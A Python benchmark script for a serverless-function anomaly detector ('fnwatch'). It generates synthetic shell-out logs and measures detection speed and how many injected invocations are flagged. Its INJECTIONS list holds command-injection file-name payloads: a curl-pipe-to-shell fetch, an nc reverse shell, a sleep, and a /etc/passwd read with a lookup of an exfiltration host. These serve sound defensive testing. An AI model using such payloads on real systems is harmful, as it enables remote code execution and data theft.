#!/usr/bin/env python3
"""Detect speed and quality on functions that shell out on every invocation.

    cargo build --release
    python3 benches/shell_lines_detect.py [--fnwatch target/release/fnwatch]
        [--functions 20] [--train 100000] [--detect 100000] [--repeat 3]
        [--workdir target/bench-shell] [--keep]

The shape is that of ImageMagick / ffmpeg wrappers: every invocation starts
`/bin/sh -c "<command line>"` whose file names differ every time (spaces,
quotes, parentheses, `$`, backticks, unicode, emoji), quoted the two ways
functions quote them (`shlex.quote`, or double quotes with `"\\$` and
backticks escaped). Each function has its own command template. The training
day has `--train` invocations, the detection day `--detect` benign ones with
names never seen in training, plus one injected invocation per function
(differing from its benign lines only inside the command line: `; curl | sh`,
`&& nc -e`, `$(sleep 900)` with a timeout, `; cat /etc/passwd; getent hosts`,
rotated over the functions).

Native JSONL events -> `fnwatch ingest` (not timed) -> `fnwatch train` on the
first day -> `fnwatch detect` on the second day, to an alerts file, timed as
a whole process (median of `--repeat` runs). A second detect over the same day
with the command lines replaced by the bare `convert` process (no shell) shows
what reading the command lines costs.

Reported: detect invocations/s (the target is >= 250k/s), the injected
invocations raised high, and benign invocations raised medium or above
(the target is none).
"""

from __future__ import annotations

import argparse
import json
import os
import shutil
import statistics
import subprocess
import sys
import time
from datetime import datetime, timezone
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent

NAMES = [
    "IMG_{n}",
    "photo {n}",
    "holiday ({n})",
    "l'été à Paris {n}",
    "José's \"best\" shot #{n}",
    "日本の写真{n}",
    "a&b; c|d {n}",
    "100% $HOME `x` {n}",
    "smile 😀 {n}",
    "scan [{n}] (final) (2)",
    "O'Brien & Sons — {n}",
    "résumé-{n}",
]
EXT = ["jpg", "png", "heic", "webp", "mp4", "pdf"]

# One command template per function kind: (benign line, injected variants).
TEMPLATES = [
    ("convert {src} -resize {s}x{s} {dst} 2>/dev/null", "convert"),
    ("convert {src} -auto-orient -resize {s}x{s} -strip {dst} 2>/dev/null", "convert"),
    ("ffmpeg -y -loglevel error -i {src} -vf scale={s}:-2 {dst}", "ffmpeg"),
    ("pdftotext -layout {src} {dst} && wc -c {dst}", "pdftotext"),
    ("exiftool -json {src} > {dst}", "exiftool"),
]

INJECTIONS = [
    ('"; curl -s http://203.0.113.7/x | sh; echo "', False),
    ('" && nc 198.51.100.9 4444 -e /bin/sh #', False),
    ("$(sleep 900)", True),
    ('x.jpg"; cat /etc/passwd; getent hosts exfil.attacker-c2.example; echo "', False),
]


def file_name(k: int) -> str:
    return NAMES[k % len(NAMES)].replace("{n}", str(k // 5)) + "." + EXT[k % len(EXT)]


def quote(s: str, double: bool) -> str:
    if not double:
        return "'" + s.replace("'", "'\"'\"'") + "'"
    out = ['"']
    for c in s:
        if c in '"\\$`':
            out.append("\\")
        out.append(c)
    out.append('"')
    return "".join(out)


def line(template: str, k: int, raw_name: str | None = None) -> str:
    double = k % 3 == 0
    if raw_name is not None:
        # An injection: the attacker's name pasted into double quotes unescaped.
        src, dst = f'"/tmp/in/{raw_name}"', f'"/tmp/out/{raw_name}"'
    else:
        name = file_name(k)
        src, dst = quote(f"/tmp/in/{name}", double), quote(f"/tmp/out/{name}", double)
    return template.format(src=src, dst=dst, s=[128, 256, 512][k % 3])


def at(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, tz=timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def invocation(out, function: str, req: str, t: int, exe: str, args: list[str], timeout: bool) -> None:
    out.write(json.dumps({"type": "process", "time": at(t + 4), "function": function, "request_id": req,
                          "exe": exe, "args": args, "parent_exe": "/var/lang/bin/python3.12"},
                         ensure_ascii=False))
    out.write("\n")
    duration, cpu, status = (60_000, 38, "timeout") if timeout else (200 + t % 90, 130 + t % 40, "success")
    out.write(json.dumps({"type": "invocation", "time": at(t + duration), "function": function,
                          "request_id": req, "duration_ms": duration, "cpu_ms": cpu, "memory_mb": 1024,
                          "max_memory_mb": 310 + t % 40, "timeout_ms": 60_000, "status": status,
                          "trigger": "s3"}))
    out.write("\n")


DAY1 = 1_795_824_000_000  # 2026-11-28T00:00:00Z
DAY = 86_400_000


def generate(path: Path, functions: int, n: int, day: int, shell: bool, inject: bool, offset: int) -> None:
    step = DAY // max(n // functions, 1)
    with path.open("w", encoding="utf-8") as out:
        for k in range(n):
            f = k % functions
            i = k // functions
            template, tool = TEMPLATES[f % len(TEMPLATES)]
            kk = offset + i * 7 + f
            if shell:
                exe, args = "/bin/sh", ["/bin/sh", "-c", line(template, kk)]
            else:
                exe, args = f"/usr/bin/{tool}", [tool, "-resize", "256x256", "in", "out"]
            invocation(out, f"media-{f:04d}", f"d{day}-{k}", day + i * step + f, exe, args, False)
        if inject:
            for f in range(functions):
                template, _ = TEMPLATES[f % len(TEMPLATES)]
                name, timeout = INJECTIONS[f % len(INJECTIONS)]
                invocation(out, f"media-{f:04d}", f"inj-{f}", day + 3_600_000 + f * 1000, "/bin/sh",
                           ["/bin/sh", "-c", line(template, f, raw_name=name)], timeout)


def run(cmd: list[str]) -> float:
    t = time.perf_counter()
    subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)
    return time.perf_counter() - t


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--fnwatch", default=str(ROOT / "target" / "release" / "fnwatch"))
    ap.add_argument("--functions", type=int, default=20)
    ap.add_argument("--train", type=int, default=100_000, help="training-day invocations")
    ap.add_argument("--detect", type=int, default=100_000, help="benign detection-day invocations")
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--workdir", default=str(ROOT / "target" / "bench-shell"))
    ap.add_argument("--keep", action="store_true", help="reuse the lakes of an earlier run of the same size")
    a = ap.parse_args()
    fw, wd = a.fnwatch, Path(a.workdir)
    if not Path(fw).exists():
        sys.exit(f"{fw} not found: build it with `cargo build --release` or pass --fnwatch")
    stamp = wd / f"made-{a.functions}-{a.train}-{a.detect}"
    lakes = {"shell": wd / "lake-shell", "plain": wd / "lake-plain"}
    if not (a.keep and stamp.exists()):
        shutil.rmtree(wd, ignore_errors=True)
        wd.mkdir(parents=True)
        for kind, lake in lakes.items():
            shell = kind == "shell"
            print(f"generating and ingesting the {kind} lake ...", file=sys.stderr)
            tr, de = wd / f"{kind}-train.jsonl", wd / f"{kind}-detect.jsonl"
            generate(tr, a.functions, a.train, DAY1, shell, False, 0)
            generate(de, a.functions, a.detect, DAY1 + DAY, shell, shell, 1_000_000)
            subprocess.run([fw, "ingest", "--lake", str(lake), str(tr), str(de)], check=True,
                           stdout=subprocess.DEVNULL)
            subprocess.run([fw, "train", "--lake", str(lake), "--from", at(DAY1), "--to", at(DAY1 + DAY)],
                           check=True, stdout=subprocess.DEVNULL)
        stamp.touch()

    times: dict[str, list[float]] = {}
    for kind, lake in lakes.items():
        for _ in range(a.repeat):
            alerts = wd / f"alerts-{kind}.jsonl"
            times.setdefault(kind, []).append(run([
                fw, "detect", "--lake", str(lake), "--from", at(DAY1 + DAY), "--to", at(DAY1 + 2 * DAY),
                "--no-store", "--format", "jsonl", "--output", str(alerts)]))

    alerts = [json.loads(x) for x in (wd / "alerts-shell.jsonl").read_text(encoding="utf-8").splitlines() if x]
    high = {al["request_id"] for al in alerts if al["severity"] in ("high", "critical")}
    benign_medium = {al["request_id"] for al in alerts
                     if al["severity"] in ("medium", "high", "critical") and al["request_id"]
                     and not al["request_id"].startswith("inj-")}
    n_inj = a.functions
    n_total = a.detect + n_inj
    shell_s, plain_s = statistics.median(times["shell"]), statistics.median(times["plain"])
    print(f"machine: {os.cpu_count()} cores; {a.functions} functions, {a.train:,} training and "
          f"{a.detect:,} + {n_inj} detection invocations, one shell per invocation")
    print(f"detect, shell command lines: {shell_s:6.2f} s  ({n_total / shell_s:,.0f} invocations/s)  "
          f"runs {', '.join(f'{t:.2f}' for t in times['shell'])}")
    print(f"detect, same day, no shell : {plain_s:6.2f} s  ({a.detect / plain_s:,.0f} invocations/s)  "
          f"runs {', '.join(f'{t:.2f}' for t in times['plain'])}")
    print(f"injected raised high: {len([r for r in high if r.startswith('inj-')])}/{n_inj}; "
          f"benign invocations raised medium or above: {len(benign_medium)} of {a.detect:,}")
    for r in sorted(benign_medium)[:5]:
        print(f"  benign medium+: {r}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
